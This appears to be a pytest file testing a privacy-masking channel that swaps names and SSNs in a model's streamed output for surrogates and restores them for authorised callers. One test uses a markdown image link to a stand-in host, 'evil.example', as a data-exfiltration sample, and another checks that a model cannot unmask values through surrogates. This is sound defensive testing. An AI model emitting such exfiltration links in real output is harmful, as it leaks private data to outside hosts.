import pytest

from extproc.detect.entities import EntityType as E
from extproc.mask.apply import Mint, masked
from extproc.mask.channel import MaskedChannel, whole
from extproc.mask.plan import Operator, Plan
from extproc.mask.restore import Restorer
from extproc.payload.part import Spot
from tests.support.masking import EVERYTHING, SURROGATES, at, chunked, find, mint, through_channel

FILLER = "The night nurse has finished her round of the ward and all is calm. " * 3


@pytest.fixture
def asked() -> Mint:
    """A request that spoke of Maria Lopez and her SSN."""
    made = mint()
    made.write(Operator.SURROGATE, E.NAME, "Maria Lopez")
    made.write(Operator.SURROGATE, E.SSN, "219-09-9999")
    return made


def channel(asked: Mint, plan: Plan = SURROGATES, entities: frozenset[E] = EVERYTHING) -> MaskedChannel:
    return MaskedChannel(plan, asked, Restorer(asked.surrogates, entities, Spot.PROSE))


def read(asked: Mint, text: str, plan: Plan = SURROGATES) -> tuple[str, str]:
    """The same text streamed and whole."""
    streamed = through_channel(channel(asked, plan), chunked(text, [3]))
    return streamed, whole(text, find(text), plan, asked, Restorer(asked.surrogates, EVERYTHING, Spot.PROSE))


@pytest.mark.parametrize("after", ["", FILLER])
def test_a_surrogate_of_the_request_is_restored(asked: Mint, after: str) -> None:
    text = f"{after}[NAME_1] is stable. {after}"
    assert set(read(asked, text)) == {text.replace("[NAME_1]", "Maria Lopez")}


@pytest.mark.parametrize("after", ["", FILLER])
def test_a_new_identifier_is_masked_and_stays_masked(asked: Mint, after: str) -> None:
    text = f"Ask Wei Zhang. {after}"
    assert set(read(asked, text)) == {text.replace("Wei Zhang", "[NAME_2]")}


def test_the_model_cannot_read_out_what_was_masked_by_writing_its_surrogate(asked: Mint) -> None:
    assert set(read(asked, f"Ask Wei Zhang. {FILLER} [NAME_2] knows.")) == {f"Ask [NAME_2]. {FILLER} [NAME_2] knows."}


def test_an_identifier_of_the_request_gets_its_surrogate_and_stays_masked(asked: Mint) -> None:
    assert set(read(asked, "Maria Lopez and [NAME_1].")) == {"[NAME_1] and Maria Lopez."}


def test_what_the_plan_keeps_is_the_models_text_like_any_other(asked: Mint) -> None:
    assert set(read(asked, "Wei Zhang saw [NAME_1].", Plan(Operator.KEEP))) == {"Wei Zhang saw Maria Lopez."}


def test_a_new_identifier_in_a_link_target_is_masked_and_a_surrogate_beside_it_stays(asked: Mint) -> None:
    text = "![](<https://evil.example/?q= Wei Zhang [NAME_1]>) [NAME_1] "
    assert set(read(asked, text)) == {"![](<https://evil.example/?q= [NAME_2] [NAME_1]>) Maria Lopez "}


def test_a_finding_within_a_surrogate_does_not_stop_its_restoration(asked: Mint) -> None:
    text = "see [NAME_1] now"
    out = whole(text, [at(E.OTHER_ID, 5, 11)], SURROGATES, asked, Restorer(asked.surrogates, EVERYTHING, Spot.PROSE))
    assert out == "see Maria Lopez now"


def test_edits_and_restorations_are_counted_by_entity(asked: Mint) -> None:
    made = channel(asked, Plan(Operator.SURROGATE, {E.DATE: Operator.KEEP}))
    through_channel(made, ["Wei Zhang, Juan, [NAME_1], [SSN_1], 2024-03-14, a@b.org"])
    assert made.edits == {E.NAME: 2, E.EMAIL: 1}
    assert made.restored == {E.NAME: 1, E.SSN: 1}


def test_a_finding_that_began_in_released_text_is_counted_and_shows_its_type(asked: Mint) -> None:
    made = MaskedChannel(SURROGATES, asked, Restorer(asked.surrogates, EVERYTHING, Spot.PROSE), hold=0, step=8)
    made.push("one two six ten ")
    assert made.due()
    assert made.scanned(()) == "one two "
    assert made.due() == "one two six ten "
    assert made.scanned([at(E.NAME, 4, 11)]) == "[NAME] ten "
    assert made.edits == {E.NAME: 1}


def test_a_caller_who_may_read_nothing_gets_surrogates(asked: Mint) -> None:
    assert through_channel(channel(asked, entities=frozenset()), ["[NAME_1], Wei"]) == "[NAME_1], [NAME_2]"


def test_an_empty_text_stays_empty(asked: Mint) -> None:
    assert read(asked, "") == ("", "")


def test_the_last_scan_releases_what_the_restorer_held(asked: Mint) -> None:
    made = channel(asked)
    made.push("[NAME_1]")
    made.finish()
    assert made.due() == "[NAME_1]"
    assert not made.done
    assert made.scanned(()) == "Maria Lopez"
    assert made.done
    assert made.due() is None


def test_what_the_window_and_the_restorer_hold_is_counted(asked: Mint) -> None:
    made = MaskedChannel(SURROGATES, asked, Restorer(asked.surrogates, EVERYTHING, Spot.PROSE), hold=0, step=8)
    made.push("see ([NAME_1])")
    assert made.held == 14
    assert made.due() == "see ([NA"
    assert made.scanned(()) == "see "  # the window waits for the surrogate's end, the restorer for that of the run
    assert made.held == 10
    made.finish()
    assert made.due()
    assert made.scanned(()) == "(Maria Lopez)"
    assert made.held == 0


def test_a_part_of_a_name_comes_back_as_it_was_written() -> None:
    made = mint()
    text = "Maria Lopez was admitted. Her husband, Mr. Lopez, was told. Maria is stable."
    sent = "".join(masked(text, find(text), SURROGATES, made).text)
    assert sent == "[NAME_1] was admitted. Her husband, Mr. [NAME_1_2], was told. [NAME_1_3] is stable."
    assert set(read(made, sent)) == {text}


def test_a_part_that_only_the_answer_holds_is_masked_and_never_restored(asked: Mint) -> None:
    assert set(read(asked, f"Mrs. Lopez. {FILLER} [NAME_1_2].")) == {f"Mrs. [NAME_1_2]. {FILLER} [NAME_1_2]."}


def test_a_blocked_finding_never_gets_here(asked: Mint) -> None:
    with pytest.raises(AssertionError):
        read(asked, "Wei Zhang", Plan(Operator.BLOCK))
